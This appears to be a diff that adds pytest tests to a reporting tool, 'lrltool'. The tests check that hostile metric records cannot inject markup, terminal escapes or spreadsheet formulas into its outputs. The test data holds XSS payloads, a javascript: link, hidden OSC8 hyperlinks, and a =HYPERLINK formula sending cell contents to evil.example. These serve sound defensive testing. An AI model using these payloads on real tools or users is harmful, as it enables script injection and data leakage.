@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import json
 import math
+import re
 from pathlib import Path
 
 import pytest
@@ -1037,3 +1038,70 @@ def test_note_is_shown_first_in_report_md_and_on_the_terminal(cli, tmp_path):
     assert result.stdout.splitlines()[0] == f"Note. {note}"
     lines = (tmp_path / "rep" / "report.md").read_text().splitlines()
     assert lines[:3] == ["# lrltool report", "", f"> **Note.** {note}"]
+
+
+# ---------------------------------------------------------------------------------------------------
+# Hostile records
+
+
+SCRIPT = "<script>alert(1)</script>"
+IMG = "<img src=x onerror=alert(1)>"
+IFRAME = "<iframe src=https://evil.example>"
+LINK = "[click](javascript:alert(1))"
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+OSC8 = "\x1b]8;;https://evil.example\x1b\\innocent\x1b]8;;\x1b\\"  # a hidden terminal hyperlink
+CLEAR = "\x1b[2J\x1b[H"  # clear the screen
+
+
+def hostile_records() -> list[dict]:
+    common = dict(task="tc", n=10, task_method="adapter", settings={"data_hash": f"x{IFRAME}", "note": CLEAR})
+    return [
+        metric_record(
+            metric="macro_f1", value=0.5 + 0.01 * seed, lang=f"ron_Latn\n# Owned {OSC8}", model=f"m{SCRIPT}",
+            method="base", seed=seed, adapter=f"a`b`|{LINK}", **common,
+        )
+        for seed in (1, 2)
+    ] + [
+        metric_record(
+            metric="macro_f1", value=0.6, lang=f"ron_Latn\n# Owned {OSC8}", model=f"m{SCRIPT}",
+            method=f"x{IMG}", source=HYPERLINK, seed=1, adapter="ok", **common,
+        )
+    ]  # fmt: skip
+
+
+def test_hostile_records_cannot_inject_markup_escapes_or_formulas(tmp_path, cli):
+    from markdown_it import MarkdownIt
+
+    metrics = write_jsonl(tmp_path / "m.jsonl", hostile_records())
+    result = cli(["report", metrics, "-o", tmp_path / "rep"])
+    assert result.exit_code == 0, result.stderr
+    # The terminal: no escape sequence reaches it; the characters are shown instead.
+    assert "\x1b" not in result.stdout and "\\x1b]8;;https://evil.example" in result.stdout
+    # report.md rendered by an independent CommonMark renderer (raw HTML allowed, as GitHub's is).
+    md = (tmp_path / "rep" / "report.md").read_text(encoding="utf-8")
+    assert "\x1b" not in md and "\n# Owned" not in md
+    html = MarkdownIt("commonmark").enable("table").render(md)
+    for tag in ("<script", "<img src=x", "<iframe", "<h1>Owned", 'href="javascript'):
+        assert tag not in html
+    assert html.count("<h1>") == 1  # "lrltool report" only
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+    assert "[click](javascript:alert(1))" in html  # shown as text, not a link
+    assert all(src.startswith("plots/") for src in re.findall(r'<img src="([^"]*)"', html))
+    # results.csv: the formula is text; numbers (negative ones too) stay numbers.
+    rows = list(csv.DictReader((tmp_path / "rep" / "results.csv").open(encoding="utf-8")))
+    sources = {r["source"] for r in rows}
+    assert "'" + HYPERLINK in sources and HYPERLINK not in sources
+    assert any(r["delta"].startswith("-") or r["delta"].startswith("0") for r in rows if r["delta"])
+    assert all(not r["delta"].startswith("'") for r in rows)
+
+
+def test_markdown_escaping_keeps_the_text():
+    from markdown_it import MarkdownIt
+
+    from lrltool.report.render import _code, _md
+
+    for text in ("a|b", "x*y*", "# h", "> q", "[t](u)", "`c`", "<b>", "back\\slash", "seq_bn/glotcc"):
+        rendered = MarkdownIt("commonmark").render(f"- {_md(text)}\n")
+        assert rendered == f"<ul>\n<li>{text.replace('<', '&lt;').replace('>', '&gt;')}</li>\n</ul>\n"
+        code = MarkdownIt("commonmark").renderInline(_code(text))
+        assert code == f"<code>{text.replace('<', '&lt;').replace('>', '&gt;')}</code>"
